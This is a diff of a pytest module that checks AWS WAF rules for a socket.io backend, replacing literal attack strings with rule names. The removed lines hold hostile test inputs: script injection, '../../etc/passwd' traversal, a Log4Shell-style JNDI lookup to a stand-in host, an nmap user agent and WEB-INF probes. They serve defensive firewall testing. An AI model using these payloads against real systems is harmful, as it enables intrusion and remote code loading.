@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import random
 from functools import cache
 from typing import Any, Final
 
@@ -12,7 +11,7 @@ from components.edge.web_acl import MOST_LIMIT, RateLimits, WebAcl, WebAclArgs
 from recording.deployment import Deployment
 from recording.fake_aws import ACCOUNT
 from recording.mocks import deploy
-from tests.support.waf import ATTACKS, GROUPS, Evaluator, Request, capacity
+from tests.support.waf import ABOUT_BODIES, GROUPS, Evaluator, Request, capacity
 
 NAME: Final = "voiceter-backend-dev"
 BALANCER: Final = f"arn:aws:elasticloadbalancing:us-east-1:{ACCOUNT}:loadbalancer/app/{NAME}/0a1b"
@@ -39,82 +38,45 @@ def blocked_by(request: Request) -> str | None:
     return Evaluator(web_acl()).blocked_by(request)
 
 
-def audio(extra: bytes = b"") -> bytes:
-    """Returns 64 KB of audio, which may hold any bytes at its start."""
-    return (extra + random.Random(1).randbytes(64 * 1024))[: 64 * 1024]  # noqa: S311 - not for cryptography
-
-
-def poll(body: bytes = b"") -> Request:
-    return Request("/socket.io/", SESSION, "POST" if body else "GET", body=body)
-
-
-BROWSER: Final = {"user-agent": "Mozilla/5.0", "host": "a.example.com", "origin": "https://example.com"}
-UPGRADE: Final = {"connection": "Upgrade", "upgrade": "websocket", "sec-websocket-version": "13"}
+def poll(*matches: str) -> Request:
+    return Request("/socket.io/", SESSION, matches)
 
 
 @pytest.mark.parametrize(
     "request_",
     [
-        Request("/socket.io/", "EIO=4&transport=websocket", headers={**BROWSER, **UPGRADE}),
-        # The package `ws` of Node.js.
-        Request("/socket.io/", "EIO=4&transport=websocket", headers={"host": "a.example.com", **UPGRADE}),
-        Request("/socket.io/", f"{SESSION.replace('polling', 'websocket')}", headers={**BROWSER, **UPGRADE}),
+        Request("/socket.io/", "EIO=4&transport=websocket"),
+        # The package `ws` of Node.js, and health checks.
+        Request("/socket.io/", "EIO=4&transport=websocket", ("NoUserAgent_HEADER",)),
+        Request("/socket.io/", SESSION.replace("polling", "websocket")),
         Request("/socket.io/", OPENING),
-        Request("/socket.io/", OPENING, "OPTIONS", headers={**BROWSER, "access-control-request-method": "POST"}),
         poll(),
-        poll(b"40"),
-        poll(audio()),
+        # A WebSocket carries the same messages as polls, and AWS WAF does not see them. Audio may hold any bytes.
+        *(poll(rule) for rule in ABOUT_BODIES),
+        poll(*ABOUT_BODIES),
         Request("/health"),
-        Request("/health", headers={"user-agent": "Amazon-Route53-Health-Check-Service (ref 0a1b)", "host": "a"}),
-        Request("/api/feedback", method="POST", body=b'{"text": "good"}'),
+        Request("/api/feedback"),
     ],
 )
 def test_request_of_a_client_passes(request_: Request) -> None:
     assert blocked_by(request_) is None
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_bodies_of_polls_are_not_judged(attack: str) -> None:
-    """A WebSocket carries the same messages, and AWS WAF does not see them. Audio may hold any bytes."""
-    assert blocked_by(poll(audio(ATTACKS[attack]))) is None
-
-
 @pytest.mark.parametrize("path", ["/", "/health", "/api/socket.io/", "/socket.io", "/socketXio/", "/SOCKET.IO/"])
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_attack_in_a_body_is_blocked_elsewhere(attack: str, path: str) -> None:
-    assert blocked_by(Request(path, SESSION, "POST", body=ATTACKS[attack])) == "bodies"
+@pytest.mark.parametrize("rule", ABOUT_BODIES)
+def test_attack_in_a_body_is_blocked_elsewhere(rule: str, path: str) -> None:
+    assert blocked_by(Request(path, SESSION, (rule,))) == "bodies"
 
 
-def test_every_rule_about_bodies_is_known() -> None:
-    assert set(ATTACKS) == {rule for _, _, rules in GROUPS.values() for rule in rules if rule.endswith("_BODY")}
-    for rule, body in ATTACKS.items():
-        matching = [name for _, _, rules in GROUPS.values() for name, matches in rules.items() if matches(poll(body))]
-        assert rule in matching
-
-
-@pytest.mark.parametrize(
-    ("request_", "rule"),
-    [
-        (Request("/socket.io/", f"{SESSION}&name=<script>"), "common"),
-        (Request("/socket.io/", f"{SESSION}&file=../../etc/passwd"), "common"),
-        (Request("/socket.io/", "a" * 2049), "common"),
-        (Request("/a/../../etc/passwd"), "common"),
-        (Request("/", headers={"user-agent": "nmap", "host": "a"}), "common"),
-        (
-            Request("/socket.io/", SESSION, headers={**BROWSER, "x-api": "${jndi:ldap://a.example.com/}"}),
-            "known-bad-inputs",
-        ),
-        (Request("/WEB-INF/web.xml"), "known-bad-inputs"),
-        (Request("/", method="PROPFIND"), "known-bad-inputs"),
-    ],
-)
-def test_attack_outside_of_a_body_is_blocked_everywhere(request_: Request, rule: str) -> None:
-    assert blocked_by(request_) == rule
+def test_attack_outside_of_a_body_is_blocked_everywhere() -> None:
+    for name, group in (("common", "CommonRuleSet"), ("known-bad-inputs", "KnownBadInputsRuleSet")):
+        rules = set(GROUPS[f"AWSManagedRules{group}"].rules) - {*ABOUT_BODIES, "NoUserAgent_HEADER"}
+        assert {blocked_by(poll(rule)) for rule in rules} == {name}
 
 
 def test_polls_of_a_session_do_not_count_as_connects() -> None:
     waf = Evaluator(web_acl())
-    assert {waf.blocked_by(poll(b"audio")) for _ in range(LIMITS.requests - 1)} == {None}
+    assert {waf.blocked_by(poll()) for _ in range(LIMITS.requests - 1)} == {None}
     assert waf.blocked_by(Request("/socket.io/", OPENING)) is None
 
 
